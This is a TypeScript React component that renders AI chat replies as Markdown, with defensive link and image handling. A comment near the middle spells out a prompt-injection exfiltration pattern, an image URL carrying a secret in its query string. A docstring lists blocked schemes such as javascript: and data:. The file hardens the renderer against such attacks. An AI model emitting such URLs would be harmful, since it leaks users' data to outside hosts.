'use client';

import { memo, useMemo } from 'react';
import ReactMarkdown, { type Components, type ExtraProps } from 'react-markdown';
import remarkGfm from 'remark-gfm';
import { openFenceContent, splitMarkdownBlocks } from './markdown-blocks';
import { boundMarkdownBlocks } from './markdown-limits';
import { CodeBlock } from './CodeBlock';
import { PlainText, PlainTextBoundary } from './PlainTextBoundary';

const REMARK_PLUGINS = [remarkGfm];

type Element = NonNullable<ExtraProps['node']>;
type ElementContent = Element['children'][number];

function textOf(node: ElementContent): string {
  if (node.type === 'text') return node.value;
  if (node.type === 'element') return node.children.map(textOf).join('');
  return '';
}

function codeOf(pre: Element | undefined): { code: string; language?: string } {
  const code = pre?.children.find((child): child is Element => child.type === 'element' && child.tagName === 'code');
  if (!code) return { code: pre ? pre.children.map(textOf).join('') : '' };
  const classes = code.properties.className;
  const language = (Array.isArray(classes) ? classes : [])
    .map(String)
    .find((name) => name.startsWith('language-'))
    ?.slice('language-'.length);
  return { code: textOf(code).replace(/\n$/, ''), language };
}

/** Schemes a link in a reply may use; anything else (javascript:, data:, vbscript:…) is dropped. */
const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:']);

/** `href` when it is a web or mail address (or relative, or a fragment), else null. */
export function safeHref(href: string | undefined): string | null {
  if (!href) return null;
  const trimmed = href.trim();
  if (trimmed.startsWith('#') || (trimmed.startsWith('/') && !trimmed.startsWith('//'))) return trimmed;
  try {
    return SAFE_PROTOCOLS.has(new URL(trimmed, 'https://relative.invalid/').protocol) ? trimmed : null;
  } catch {
    return null;
  }
}

function hostOf(href: string): string {
  try {
    return new URL(href, 'https://relative.invalid/').host.replace(/^relative\.invalid$/, '') || href;
  } catch {
    return href;
  }
}

// An image in a reply is never fetched by itself: a prompt-injected `![](https://host/?q=secret)`
// would send whatever the model put in the URL the moment the reply renders. It becomes a link
// the reader can choose to follow.
function ImageLink({ src, alt }: { src?: unknown; alt?: string }) {
  const href = typeof src === 'string' ? safeHref(src) : null;
  const label = `Image: ${alt?.trim() || (href ? hostOf(href) : 'not shown')}`;
  if (!href) return <span className="text-muted-foreground">[{label}]</span>;
  return (
    <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="text-primary underline underline-offset-2">
      {label}
    </a>
  );
}

const COMPONENTS: Components = {
  pre: ({ node }) => <CodeBlock {...codeOf(node)} />,
  code: ({ children }) => (
    <code className="rounded-sm bg-muted px-1 py-0.5 font-mono text-[0.9em]">{children}</code>
  ),
  a: ({ children, href }) => {
    const safe = safeHref(href);
    if (!safe) return <span className="underline decoration-dotted">{children}</span>;
    return (
      <a href={safe} target="_blank" rel="noopener noreferrer nofollow" className="text-primary underline underline-offset-2">
        {children}
      </a>
    );
  },
  img: ({ src, alt }) => <ImageLink src={src} alt={alt} />,
  table: ({ children }) => (
    // Focusable so a keyboard can scroll a table wider than the screen.
    <div className="my-3 overflow-x-auto focus-visible:outline-2 focus-visible:outline-ring" tabIndex={0}>
      <table className="w-full border-collapse text-sm">{children}</table>
    </div>
  ),
};

// Prose styles without a typography plugin: the module brings only Tailwind's core utilities.
const PROSE = [
  'break-words leading-relaxed',
  '[&_p]:my-2 [&_p:first-child]:mt-0 [&_p:last-child]:mb-0',
  '[&_ul]:my-2 [&_ul]:list-disc [&_ul]:pl-6 [&_ol]:my-2 [&_ol]:list-decimal [&_ol]:pl-6 [&_li]:my-0.5',
  '[&_h1]:mt-4 [&_h1]:mb-2 [&_h1]:text-xl [&_h1]:font-semibold [&_h2]:mt-4 [&_h2]:mb-2 [&_h2]:text-lg [&_h2]:font-semibold',
  '[&_h3]:mt-3 [&_h3]:mb-1 [&_h3]:font-semibold',
  '[&_blockquote]:border-l-4 [&_blockquote]:border-border [&_blockquote]:pl-3 [&_blockquote]:text-muted-foreground',
  '[&_th]:border [&_th]:border-border [&_th]:px-2 [&_th]:py-1 [&_th]:text-left [&_td]:border [&_td]:border-border [&_td]:px-2 [&_td]:py-1',
  '[&_hr]:my-4 [&_hr]:border-border',
].join(' ');

/** One block, parsed once: memo on its source, so a block that stopped growing never re-parses. */
const MarkdownBlock = memo(function MarkdownBlock({ source }: { source: string }) {
  return (
    <ReactMarkdown remarkPlugins={REMARK_PLUGINS} components={COMPONENTS}>
      {source}
    </ReactMarkdown>
  );
});

export interface MarkdownProps {
  content: string;
  className?: string;
}

/**
 * GitHub-flavoured markdown (tables, task lists), split into blocks; an unclosed fence shows as
 * plain code. A block past the parser's bounds (components/markdown-limits), or one that fails to
 * render, shows as plain text: any text renders in bounded time and never throws.
 */
export function Markdown({ content, className = '' }: MarkdownProps) {
  const blocks = useMemo(() => boundMarkdownBlocks(splitMarkdownBlocks(content)), [content]);
  return (
    <div className={`${PROSE} ${className}`}>
      {blocks.map((block, index) =>
        block.plain ? (
          <PlainText key={index} text={block.source} />
        ) : block.openFence ? (
          <CodeBlock key={index} {...openFenceContent(block.source)} open />
        ) : (
          <PlainTextBoundary key={index} text={block.source}>
            <MarkdownBlock source={block.source} />
          </PlainTextBoundary>
        ),
      )}
    </div>
  );
}
